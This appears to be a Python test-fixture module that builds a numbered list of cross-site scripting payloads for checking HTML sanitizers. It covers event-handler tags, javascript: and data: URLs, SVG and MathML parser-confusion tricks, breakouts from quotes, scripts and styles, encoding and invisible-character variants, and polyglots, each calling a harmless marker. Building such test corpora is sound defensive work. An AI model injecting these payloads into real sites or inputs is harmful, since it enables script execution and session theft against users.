# SPDX-License-Identifier: Apache-2.0
"""Texts that would like to be more than texts.

Each calls ran(N), asks for /ran?N or shows alert(N), with its own number, if
a page makes something else of it than letters. HTML says in which place of a
careless page it would come to life; None where no browser of today is known
to be that careless, and it only has to be shown as it is.
"""

import base64
from urllib.parse import quote

HTML = "%s"
IN_QUOTES = '<input value="%s">'
IN_APOSTROPHES = "<input value='%s'>"
UNQUOTED = "<input value=%s>"
IN_LINK = '<a href="%s">x</a>'
IN_SCRIPT = "<script>var x = \"%s\";</script>"
IN_STYLE = "<style>%s</style>"

# ---- tags and what happens to them ----------------------------------------
HAPPENS = ("img src=x onerror", "image src=x onerror", "svg onload",
           "iframe onload", "body onload", "video src=x onerror",
           "audio src=x onerror", "input autofocus onfocus",
           "textarea autofocus onfocus", "select autofocus onfocus",
           "details open ontoggle",
           "link rel=stylesheet href=x onerror", "style onload",
           "button onclick", "a onclick", "div onpointerover",
           "p onmouseover", "object data=x onerror",
           "embed src=/icon.svg onload")
SHAPES = ("<tag=CODE>", "<tag='CODE'>", '<tag = "CODE" />', "<TAG=CODE >",
          "<ta/g\t=\tCODE x=>", "<tag=ENTITIES>", "<x><tag=CODE//>")


def entities(text):
    return "".join(f"&#{ord(letter)};" for letter in text)


def events():
    for tag in HAPPENS:
        for shape in SHAPES:
            yield shape.replace("TAG", tag.upper()).replace(
                "ta/g", tag.replace(" ", "\n")).replace("tag", tag), HTML


# ---- addresses --------------------------------------------------------------
CARRIERS = ('<a href="CODE">x</a>', "<iframe src='CODE'></iframe>",
            '<form action="CODE"><button>x</button></form>',
            '<form><button formaction="CODE">x</button></form>',
            '<object data="CODE"></object>', '<embed src="CODE">',
            '<svg><a href="CODE"><text y=9>x</text></a></svg>',
            '<svg><a xlink:href="CODE"><text y=9>x</text></a></svg>',
            '<math><mi href="CODE">x</mi></math>',
            '<meta http-equiv=refresh content="0;url=CODE">',
            '<map><area href="CODE"></map>', '<base href="CODE">')
SCHEMES = ("javascript:CODE", "JaVaScRiPt:CODE", "\u00a0javascript:CODE",
           "java\u200bscript:CODE", "javascript&colon;CODE",
           "&#x6a;avascript:CODE", "java&Tab;script:CODE",
           "javascript://x.example/%0aCODE", "javascript:/*--></a>*/CODE",
           "view-source:javascript:CODE", "vbscript:CODE",
           "feed:javascript:CODE", "data:text/html,<script>CODE</script>")


def addresses():
    for carrier in CARRIERS:
        yield carrier.replace("CODE", "javascript:CODE"), HTML
    for scheme in SCHEMES:
        yield scheme, IN_LINK
        yield f'<a href="{scheme}">x</a>', HTML
    yield "data:text/html;base64," + base64.b64encode(
        b"<script>alert(1)</script>").decode(), IN_LINK
    yield "//ran.example/CODE", IN_LINK
    yield "https://ran.example/'onclick='CODE", "<a href='%s'>x</a>"


# ---- foreign content, templates, what changes when it is read twice ---------
FOREIGN = (
    "<svg><script>CODE</script></svg>",
    "<svg><script>&#x2f;**/CODE</script></svg>",
    "<svg><script href='data:,CODE'/></svg>",
    "<svg><animate onbegin=CODE attributeName=x dur=1s>",
    "<svg><set onbegin=CODE attributeName=x>",
    "<svg><foreignObject><img src=x onerror=CODE></foreignObject></svg>",
    "<svg><desc><img src=x onerror=CODE></desc></svg>",
    "<svg><title><img src=x onerror=CODE></title></svg>",
    "<svg><style><img src=x onerror=CODE></style></svg>",
    "<svg><image href=x onerror=CODE></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=CODE>'></use></svg>",
    "<math><mtext><img src=x onerror=CODE></mtext></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=CODE>",
    "<math><mglyph><style><img src=x onerror=CODE></style></mglyph></math>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=x onerror=CODE&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=CODE>'>",
    "<noscript><p title='</noscript><img src=x onerror=CODE>'>",
    "<template><script>CODE</script></template><img src=x onerror=CODE>",
    "<div><template shadowrootmode=open><img src=x onerror=CODE></template>",
    "<table><td background=x><img src=x onerror=CODE></table>",
    "<select><option><img src=x onerror=CODE></select>",
    "<xmp><p title='</xmp><img src=x onerror=CODE>'>",
    "<listing>&lt;img onerror=CODE src=x&gt;</listing>",
    "<plaintext><img src=x onerror=CODE>",
    "<frameset onload=CODE>", "<marquee onstart=CODE>x</marquee>",
    "<p style='animation:x 1s' onanimationstart=CODE>",
    "<img srcset='x 1x' onerror=CODE>",
    "<picture><source srcset=x><img onerror=CODE></picture>",
    "<video><source src=x onerror=CODE></video>",
    "<!--><img src=x onerror=CODE>-->", "<!-- --!><img src=x onerror=CODE>",
    "<![CDATA[><img src=x onerror=CODE>]]>", "<?x><img src=x onerror=CODE>?>",
    "</br><img src=x onerror=CODE>", "<%00><img src=x onerror=CODE>",
    "<scr<script>ipt>CODE</scr</script>ipt>",
    "<script src=x onerror=CODE></script>",
    "<script>CODE</script>", "<SCRIPT>CODE</SCRIPT >",
    "<script type=module>CODE</script>", "<script/x>CODE</script/x>",
    "<script>import('data:text/javascript,CODE')</script>",
    "<script\n>CODE\n</script\n>",
    "<a href=/ran?NUMBER ping=/ran?NUMBER>x</a>")
EXPRESSIONS = (
    "{{constructor.constructor('CODE')()}}", "${{c}}", "#{{c}}",
    "<%= CODE %>", "[[CODE]]", "{%raw%}CODE", "{{{{c}}}}", "{name}",
    "{n} {days} {words}", "$& $1 $` $' $$", "%s%n%d", "@CODE",
    "<p v-html=\"'CODE'\" ng-app onx>", "<div x-data=CODE hx-on:load=CODE>",
    "__proto__", "constructor", "[object Object]", "toString", "undefined",
    "null", "NaN", "</head><body onx=CODE>")


def foreign():
    for text in FOREIGN:
        yield text, HTML
    for text in EXPRESSIONS:
        yield text, None


# ---- out of what it was put into -----------------------------------------
ENDS = ("</textarea>", "</title>", "</option></select>", "</script>",
        "</style>", "</noscript>", "</template>", "</iframe>", "</noembed>",
        "</xmp>", "-->", "--!>", "]]>", "?>", "*/", "</button>", "</label>",
        "</li></ul>", "</svg>", "</math>", "</p></div>", "</dialog>")
OPENS = {"</textarea>": "<textarea>%s", "</title>": "<title>%s",
         "</script>": IN_SCRIPT, "</style>": IN_STYLE, "-->": "<!-- %s -->",
         "--!>": "<!-- %s -->", "</iframe>": "<iframe>%s",
         "</xmp>": "<xmp>%s", "</template>": "<template>%s"}


def breakouts():
    for end in ENDS:
        for image in ("<img src=x onerror=CODE>", "<svg/onload=CODE>",
                      "<script>CODE</script>"):
            yield end + image, OPENS.get(end, HTML)
    for sign, place in (('"', IN_QUOTES), ("'", IN_APOSTROPHES),
                          ("x", UNQUOTED)):
        yield f"{sign} autofocus onfocus=CODE x={sign}", place
        yield f"{sign} onpointerover=CODE {sign}", place
        yield f"{sign}><img src=x onerror=CODE>", place
    for text in ('";CODE;"', '"+CODE+"', '"-CODE-"', '";CODE//', '\\";CODE//',
                 '"}];CODE;//', "</script><script>CODE</script>"):
        yield text, IN_SCRIPT
    for text in ("'-CODE-'", "`;CODE;`", '{"a":"</script><script>CODE"}',
                 '","role":"staff","x":"CODE', "\\u0022;CODE",
                 "data: x\n\nevent: message\ndata: CODE"):
        yield text, None
    for text in ("*{background:url(/ran?NUMBER)}", "@import '/ran?NUMBER';",
                 "}*{background:url(/ran?NUMBER)}",
                 "</style><img src=/ran?NUMBER>"):
        yield text, IN_STYLE
    for text in ("<img src=/ran?NUMBER>", "<img src='/ran?NUMBER",
                 "<link rel=stylesheet href=/ran?NUMBER>",
                 "<iframe src=/ran?NUMBER>",
                 "<script src=/ran?NUMBER></script>",
                 "<style>@import '/ran?NUMBER';</style>",
                 "<p style='background:url(/ran?NUMBER)'>x",
                 "<video poster=/ran?NUMBER>",
                 "<input type=image src=/ran?NUMBER>",
                 "<table background=/ran?NUMBER>",
                 "<object data=/ran?NUMBER>"):
        yield text, HTML
    for text in ("expression(CODE)", "-moz-binding:url(CODE)",
                 "<form id=app><input name=children>", "<a id=status>",
                 "<img name=getElementById>", "<base target=_blank>",
                 "<meta charset=utf-7>", "<dialog open>CODE</dialog>"):
        yield text, None


# ---- letters ---------------------------------------------------------------
IMAGE = "<img src=x onerror=CODE>"
LETTERS = {
    "fullwidth": str.maketrans({"<": "\uff1c", ">": "\uff1e"}),
    "small": str.maketrans({"<": "\ufe64", ">": "\ufe65"}),
    "angles": str.maketrans({"<": "\u2039", ">": "\u203a"}),
    "CJK": str.maketrans({"<": "\u3008", ">": "\u3009"}),
    "signs": str.maketrans({"<": "\u02c2", ">": "\u02c3"})}
INVISIBLE = ("\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad",
             "\u034f", "\u180e", "\u2028", "\u2029", "\ufe0f", "\U000e0041")
BIDI = ("\u202eTEXT", "\u202dTEXT\u202c", "\u202bTEXT", "\u202aTEXT",
        "\u2066TEXT\u2069", "\u2067TEXT", "\u2068TEXT\u2069", "\u061cTEXT",
        "\u200fTEXT\u200e", "\u05d0 TEXT \u05d1", "\u202e\u202dTEXT\u2067",
        "\u2069\u2069\u202cTEXT")


def letters():
    yield IMAGE.replace("<", "&lt;"), None
    yield IMAGE.replace("<", "&amp;lt;"), None
    yield IMAGE.replace("<", "&LT"), None
    yield IMAGE.replace("<", "&#0000060"), None
    yield entities(IMAGE)[:60], None
    yield quote(IMAGE), None
    yield quote(quote(IMAGE)), None
    for escape in ("\\u003c", "\\x3c", "\\74", "\\00003c", "=3C", "+ADw-",
                   "\\u{3c}", "%u003c", "%253C", "\u00c0\u00bc"):
        yield IMAGE.replace("<", escape), None
    for table in LETTERS.values():
        yield IMAGE.translate(table), None
    for sign in INVISIBLE:
        yield IMAGE.replace("img", f"im{sign}g{sign}"), None
        yield sign + IMAGE.replace("x", "x" + sign, 1), HTML
    for text in BIDI:
        yield text.replace("TEXT", IMAGE), HTML
    yield "<\u0338img src=x onerror=CODE>", None
    yield "x" + "\u0300" * 20 + "<b onclick=CODE>", HTML
    yield "\U0001f469\u200d<img src=x onerror=CODE>\u2764", HTML
    yield "\ufdfd" * 9 + "<svg onload=CODE>", HTML


# ---- all at once -----------------------------------------------------------
POLYGLOTS = (
    "javascript:\"/*'/*`/*--></title></style></textarea></script>"
    "<svg/onload=CODE>",
    "'\"--></style></script><img src=x onerror=CODE>\\\";CODE//",
    "\">'><details open ontoggle=CODE>{{7*7}}${7*7}",
    "*/CODE/*\"-CODE-\"'-CODE-'`-CODE-`</script><svg onload=CODE>",
    "--><!-- ><img src=x onerror=CODE>//]]>",
    "\u202e\"><svg onload=CODE>\u2066'><!--")


def polyglots():
    for text in POLYGLOTS:
        yield text, HTML


CALLS = ("ran({})", "top.ran({})", "alert({})", "window.ran?.({})")


class Payload:
    """NUMBER, TEXT, and the PLACE where it lives; see above."""

    def __init__(self, number, template, place):
        code = CALLS[number % len(CALLS)].format(number)
        self.number, self.place = number, place
        self.text = template.replace("CODE", code).replace(
            "ENTITIES", entities(code)).replace("NUMBER", str(number))

    def __repr__(self):
        return f"<{self.number}: {self.text!r}>"


PAYLOADS = [Payload(number, *each) for number, each in enumerate(
    each for family in (events, addresses, foreign, breakouts, letters,
                        polyglots) for each in family())]
